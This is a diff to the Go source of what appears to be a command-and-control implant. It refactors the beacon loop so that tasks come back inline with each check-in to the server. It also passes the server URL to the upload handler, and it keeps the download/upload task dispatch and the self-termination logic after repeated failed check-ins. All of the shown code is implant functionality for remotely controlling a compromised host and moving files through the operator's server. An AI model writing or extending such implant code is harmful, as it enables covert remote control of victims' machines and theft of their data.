@@ -18,11 +18,15 @@ func ParseTasks(serverUrl string, tasking string) (string, error) {
 		return "", err
 	}
 
+	RunTasks(serverUrl, tasks)
+	return "", nil
+}
+
+func RunTasks(serverUrl string, tasks []map[string]interface{}) {
 	for _, taskData := range tasks {
 		url := fmt.Sprintf("%s/results/%s", serverUrl, taskData["session"])
 		TaskHandler(taskData, url, serverUrl)
 	}
-	return "", nil
 }
 
 func TaskHandler(taskData map[string]interface{}, url string, serverUrl string) {
@@ -46,7 +50,7 @@ func TaskHandler(taskData map[string]interface{}, url string, serverUrl string)
 	case "download":
 		agent_helper.DownloadHandler(url, taskData)
 	case "upload":
-		agent_helper.UploadHandler(url, taskData)
+		agent_helper.UploadHandler(url, serverUrl, taskData)
 	}
 }
 
@@ -65,7 +69,7 @@ func main() {
 		timer := time.NewTimer(nextInterval)
 
 		<-timer.C
-		resp, err := agent_helper.CheckIn(serverUrl, initialInfo.Session)
+		resp, tasks, err := agent_helper.CheckIn(serverUrl, initialInfo.Session)
 		if err != nil {
 			retryCounter += 1
 			if retryCounter >= agent_helper.CallbackTimer.SelfTerminate {
@@ -73,20 +77,16 @@ func main() {
 			}
 			continue
 		}
-		if resp != 200 && resp != 301 {
+		if resp != 200 {
 			retryCounter += 1
 			if retryCounter >= agent_helper.CallbackTimer.SelfTerminate {
 				agent_helper.TerminateImplant()
 			}
 			continue
 		}
-		if resp == 301 {
-			// we have tasking
-			tasking, err := agent_helper.FetchTasking(serverUrl, initialInfo.Session)
-			if err != nil {
-			} else {
-				ParseTasks(serverUrl, tasking)
-			}
+		if len(tasks) > 0 {
+			// we have tasking, it came back inline with the check in
+			RunTasks(serverUrl, tasks)
 			continue
 		}
 		retryCounter = 0